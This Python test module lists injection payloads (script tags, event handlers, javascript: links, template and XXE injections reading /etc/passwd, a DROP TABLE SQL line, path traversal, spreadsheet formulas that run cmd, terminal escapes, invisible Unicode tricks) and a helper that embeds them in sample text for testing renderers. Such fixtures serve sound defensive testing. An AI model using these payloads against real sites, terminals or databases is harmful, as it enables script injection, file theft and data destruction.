"""Texts that try to become something other than text: markup, scripts, terminal codes, formulas.

Whatever shows text from outside (HTML, a terminal, a spreadsheet) is tested with all of them.
"""

from __future__ import annotations

PAYLOADS: dict[str, str] = {
    "script": "<script>alert(1)</script>",
    "script in capitals": "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "script that ends another": "</script><script>alert(1)</script>",
    "end of a style sheet": "</style><style>body{display:none}</style>",
    "end of a text area": "</textarea></title></noscript><script>alert(1)</script>",
    "event handler": "<img src=x onerror=alert(1)>",
    "event handler without spaces": "<svg/onload=alert(1)>",
    "event handler in an attribute": '" onmouseover="alert(1)" x="',
    "event handler in single quotes": "' onfocus='alert(1)' autofocus='",
    "event handler in backquotes": "` onclick=`alert(1)`",
    "end of a mark": "</mark></p></article><h1>done</h1>",
    "link": '<a href="javascript:alert(1)">see</a>',
    "link with a tab": "<a href='java\tscript:alert(1)'>see</a>",
    "bare link": "javascript:alert(1)",
    "Markdown link": "[see](javascript:alert(1))",
    "data link": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "frame": "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "form": "<form action=//evil.example><input name=x><button>Go</button></form>",
    "base": "<base href=//evil.example/>",
    "refresh": '<meta http-equiv="refresh" content="0;url=//evil.example">',
    "style attribute": '<p style="position:fixed;inset:0">over all</p>',
    "comment": "<!-- --><script>alert(1)</script><!--",
    "open comment": "<!--",
    "character data": "<![CDATA[<script>alert(1)</script>]]>",
    "processing instruction": "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "MathML": "<math><mtext></p><img src=x onerror=alert(1)></mtext></math>",
    "tag that does not end": "<img src=x onerror=alert(1) ",
    "escaped once": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "escaped twice": "&amp;lt;script&amp;gt;",
    "escaped by number": "&#60;script&#62;alert(1)&#60;/script&#62;",
    "escaped for a URL": "%3Cscript%3Ealert(1)%3C/script%3E",
    "escaped for JavaScript": "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "end of a JavaScript string": "');alert(1);('",
    "JavaScript template": "${alert(1)}",
    "Jinja template": "{{ 7 * 7 }}{% for x in ().__class__.__mro__ %}{{ x }}{% endfor %}",
    "Angular template": "{{constructor.constructor('alert(1)')()}}",
    "format string": "%s%n {0.__class__} {area} %(text)s",
    "prototype": '{"__proto__": {"admin": true}}',
    "direction override": "safe \u202e)1(trela\u202c text",
    "direction isolates": "\u2066a\u2067b\u2068c \u202a\u202bd",
    "direction marks": "\u200e\u200f\u061ca",
    "unseen characters": "te\u200bl\u200cl\u200d \u2060\ufeff\u00ad\U000e0041",
    "line separators": "a\u2028b\u2029c\x85d",
    "half a surrogate pair": "half \ud800 and \udfff",
    "pair of surrogates": "\ud83d\ude00",
    "NUL": "a\0b<\0script>alert(1)</\0script>",
    "not a character": "\ufffe\uffff\U0010ffff",
    "other brackets": "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "terminal colours": "\x1b[31mred\x1b[0m",
    "terminal title": "\x1b]0;owned\x07",
    "terminal link": "\x1b]8;;https://evil.example\x1b\\see\x1b]8;;\x1b\\",
    "terminal clear": "\x1b[2J\x1b[H\x9b2J",
    "backspaces": "good\x08\x08\x08\x08evil\r bad",
    "formula": '=HYPERLINK("https://evil.example","see")',
    "formula with a plus": "+cmd|' /C calc'!A0",
    "accents on accents": "Z" + "\u0301\u0336\u0348" * 40,
    "SQL": "'; DROP TABLE labels; --",
    "path": "../../../../etc/passwd",
}
"""Pieces to put into a text, a title, an id or the name of an area."""


def hostile_text(payload: str) -> str:
    """An abstract of the tests' areas with `payload` among its words."""
    return f"The telescope finds a comet {payload} and faint galaxies. {payload} The soup is baked slowly, {payload}"
